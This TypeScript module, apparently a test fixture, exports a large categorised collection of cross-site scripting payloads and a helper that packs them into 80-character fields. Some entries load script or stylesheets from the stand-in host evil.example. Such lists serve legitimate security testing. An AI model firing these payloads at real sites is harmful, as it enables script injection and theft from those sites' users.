/**
 * Texts that would run `fc()` where somebody shows them as markup, script, style, address or template. The classes are
 * those that are known; every one is short enough for a field of 80 characters.
 */
const CALL = 'fc()'
const inTag = (tag: string, event: string): string[] => [`<${tag} ${event}=${CALL}>`, `"><${tag} ${event}=${CALL}>`, `'><${tag} ${event}="${CALL}">`]

const SCRIPTS = [
  `<script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script src=data:,${CALL}></script>`, `<script/x>${CALL}</script>`, `<script\n>${CALL}</script>`, `<script>${CALL}//`,
  `</script><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</style><script>${CALL}</script>`, `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`, `<svg><script>${CALL}</script>`, `<math><script>${CALL}</script>`, `<script type=module>${CALL}</script>`, '<script src=//evil.example/x.js></script>',
  `<<script>${CALL}//<</script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<script x=">">${CALL}</script>`, `</noscript><script>${CALL}</script>`, `</template><script>${CALL}</script>`,
  `<script>\u2028${CALL}</script>`, `"><script>${CALL}</script>`, `'><script>${CALL}</script>`,
]
const HANDLERS = ([
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['details open', 'ontoggle'],
  ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['marquee', 'onstart'], ['iframe', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onload'], ['style', 'onload'],
  ['p tabindex=1 autofocus', 'onfocus'], ['div style=animation:x', 'onanimationstart'], ['img srcset=x', 'onerror'], ['image src=x', 'onerror'], ['video><source', 'onerror'], ['svg><animate', 'onbegin'],
] as const).flatMap(([tag, event]) => inTag(tag, event))
const ATTRIBUTES = [
  `" onfocus=${CALL} autofocus "`, `' onfocus=${CALL} autofocus '`, `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `x onerror=${CALL}`, `" style="animation:x" onanimationstart="${CALL}`,
  `" autofocus onfocus="${CALL}" x="`, `\` onmouseover=${CALL} \``, `"/onpointerenter=${CALL}//`, `" formaction="javascript:${CALL}`, `" href="javascript:${CALL}`, `" srcdoc="<script>${CALL}</script>`,
  `" xlink:href="javascript:${CALL}`, `" nonce="" src="//evil.example`, `" dangerouslySetInnerHTML="${CALL}`, `&quot; onfocus=${CALL} autofocus`,
]
const ADDRESSES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `&#106;avascript:${CALL}`, `javascript&colon;${CALL}`,
  `javascript://%0a${CALL}`, `javascript:/*--></title></style>*/${CALL}`, `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5mYygpPC9zY3JpcHQ+`, `vbscript:${CALL}`,
  `blob:javascript:${CALL}`, `view-source:javascript:${CALL}`, `<a href=javascript:${CALL}>x</a>`, `<a href="java&Tab;script:${CALL}">x</a>`, `<iframe src=javascript:${CALL}>`,
  `<object data=javascript:${CALL}>`, `<form action=javascript:${CALL}><input type=submit>`, `<form><button formaction=javascript:${CALL}>x`, `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;javascript:${CALL}">`, `<link rel=import href=data:text/html,${CALL}>`, `<svg><a xlink:href=javascript:${CALL}><text y=9>x`,
]
const TEMPLATES = [
  `{{constructor.constructor('${CALL}')()}}`, `{{$on.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{${CALL}}`, `[[\${${CALL}}]]`, `{% raw %}${CALL}{% endraw %}`, '{{7*7}}',
  `{x, select, other {<script>${CALL}</script>}}`, '{points}', '<b>{count, plural, other {#}}</b>', `'{'${CALL}'}'`, `<template><script>${CALL}</script></template>`, `%s%n%x${CALL}`, `[x](javascript:${CALL})`,
  `![x](x"onerror="${CALL})`, `<x-y is=script>${CALL}</x-y>`, `__html:${CALL}`, `$$typeof:react.element ${CALL}`,
]
const STRINGS = [
  `";${CALL};//`, `';${CALL};//`, `\`;${CALL};//`, `\\";${CALL};//`, `\\';${CALL}//`, `</script><svg onload=${CALL}>`, `\u2028${CALL}//`, `\u2029${CALL}//`, `*/${CALL}/*`, `"-${CALL}-"`, `'-${CALL}-'`,
  `"+${CALL}+"`, `"}]);${CALL};//`, `'});${CALL};//`, `\n${CALL}\n`, `<!--<script>${CALL}`, `"},"x":"</script><script>${CALL}</script>`, `self.__next_f.push([1,"${CALL}"])`, `\\u0022;${CALL}//`, `0;${CALL}`,
]
const STYLES = [
  `</style><img src=x onerror=${CALL}>`, `expression(${CALL})`, `url(javascript:${CALL})`, `;background:url(//evil.example/)`, '}*{background:url(//evil.example/)}', '@import"//evil.example/x.css";',
  `red;}</style><svg onload=${CALL}>`, `<div style="x:expression(${CALL})">`, '<link rel=stylesheet href=//evil.example/x.css>', `-moz-binding:url(//evil.example/#${CALL})`,
]
const CODINGS = [
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `＜script＞${CALL}＜/script＞`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `&#x3c;img src=x onerror=${CALL}&#x3e;`, `&lt;img src=x onerror=${CALL}&gt;`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`, `\\u003cimg src=x onerror=${CALL}\\u003e`, `%3Cscript%3E${CALL}%3C/script%3E`, `%253Cimg src=x onerror=${CALL}%253E`, `\u202e<img src=x onerror=${CALL}>`,
  `<img\u00a0src=x\u00a0onerror=${CALL}>`, `<img/src=x/onerror=${CALL}>`, `<img\tsrc=x\tonerror=${CALL}>`, `<img\u000csrc=x onerror=${CALL}>`, `<svg/onload=&#102;&#99;()>`, `ʺ><img src=x onerror=${CALL}>`,
]
const MUTATIONS = [
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<math><mtext></mtext><mglyph><img src=x onerror=${CALL}>`,
  `<svg><style><img src=x onerror=${CALL}></style>`, `<svg><foreignObject><img src=x onerror=${CALL}>`, `<svg><set attributeName=href to=javascript:${CALL}>`, `<table><td background=javascript:${CALL}>`,
  `<form id=document><input name=cookie onfocus=${CALL} autofocus>`, `<a id=__next_f><a id=__next_f name=push href="x:${CALL}">`, `<!--><img src=x onerror=${CALL}>-->`, `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><x onload=${CALL}>`, `<xmp><p title="</xmp><svg/onload=${CALL}>">`, `<select><template><svg onload=${CALL}>`, `<dialog open onclose=${CALL}><form method=dialog>`,
  `<input type=hidden oncontentvisibilityautostatechange=${CALL}>`, `<iframe srcdoc="<img src=x onerror=parent.${CALL}>">`, `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${CALL}>`,
]

export const SCRIPT_PAYLOADS: readonly string[] = [...SCRIPTS, ...HANDLERS, ...ATTRIBUTES, ...ADDRESSES, ...TEMPLATES, ...STRINGS, ...STYLES, ...CODINGS, ...MUTATIONS]

/** All of them in texts of at most `length` characters, several in one where they fit; those that are longer alone are left out. */
export function packed(length: number): string[] {
  const texts: string[] = []
  for (const payload of SCRIPT_PAYLOADS.filter((one) => one.length <= length)) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < length) texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload.trim() === '' ? 'x' : payload)
  }
  return texts
}
